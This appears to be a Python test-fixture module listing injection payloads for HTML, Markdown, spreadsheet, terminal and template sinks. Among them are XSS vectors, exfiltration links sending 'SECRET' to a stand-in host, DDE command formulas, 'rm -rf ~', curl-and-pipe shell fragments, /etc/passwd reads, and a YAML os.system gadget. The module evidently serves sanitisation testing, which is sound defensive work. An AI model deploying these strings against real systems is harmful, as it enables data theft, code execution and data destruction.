"""Texts that some sink would obey: written for this project, one idea each."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//h.example/a.js></SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)//",
    "</style><script>alert(1)</script>",
    "</textarea></title></noscript></template></iframe><b onclick=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><style><!--</style><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data='javascript:alert(1)'>",
    "<embed src='data:text/html;base64,PHNjcmlwdD4='>",
    "<base href='//h.example/'>",
    "<meta http-equiv=refresh content='0;url=//h.example'>",
    "<link rel=stylesheet href=//h.example/a.css>",
    "<form action=//h.example><button>ok</button></form>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<x style='background:url(//h.example/p)'>",
    "<style>@import'//h.example/a.css'</style>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<slot name=x onslotchange=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus x='",
    "` onclick=`alert(1)",
    "x onload=alert(1) y=",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u0000script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028</script>\u2029<script>alert(1)",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<?php system('id'); ?> <% exec %> <?xml version='1.0'?>",
)  # fmt: skip
"""For a browser."""

LINKS = (
    "![x](http://h.example/p.png?q=SECRET)",
    "![x][r]\n\n[r]: http://h.example/p.png",
    "[x](javascript:alert(1))",
    "[x](<http://h.example/a b>)",
    "<http://h.example/?q=SECRET>",
    "http://h.example www.h.example someone@h.example",
    "javascript:alert(1)//http://h.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "# x\n## y\n- z\n> q\n```\ncode\n```\n| a | b |\n|---|---|",
    "[^1]: note\n\n***\n\n___",
)
"""For a reader of Markdown."""

FORMULAS = (
    "=1+1", "+1+1", "-1+1|x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", '"=1', "'=1", "\uff1d1", "\ufeff=1",
    "=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://h.example","//a")',
    '=HYPERLINK("http://h.example?"&A1)', '=WEBSERVICE("http://h.example")', "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
"""For a spreadsheet."""

ESCAPES = (
    "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://h.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0=\x07", "\x1bP+q\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x9b2J", "\x9d0;t\x9c", "a\rb", "a\b\b\bb",
    "\x07", "\x0e\x0f\x7f", "\u202egpj.exe", "\u2066x\u2069", "[red]x[/red] [link=http://h.example]y[/link]",
    "\x1b", "\x85\x84",
)  # fmt: skip
"""For a terminal."""

TEMPLATES = (
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for i in range(10**9) %}x{% endfor %}", "{# gone #}", "{% raw %}",
    "{0.__class__}", "{records}", "${HOME}", "$(id)", "`id`", "%s %n %(x)s", "#{7*7}", "<%= 7*7 %>",
    "'; DROP TABLE response;--",
    '" OR 1=1 --', "; rm -rf ~", "&& curl h.example", "| sh", "../../../../etc/passwd", "%2e%2e%2f", "\\\\h.example\\x",
    "__proto__", "!!python/object/apply:os.system [id]", "{{ 'A' * 300000000 }}", "{{ unclosed",
)  # fmt: skip
"""For whatever fills in, runs or opens."""

ALL = (*MARKUP, *LINKS, *FORMULAS, *ESCAPES, *TEMPLATES)
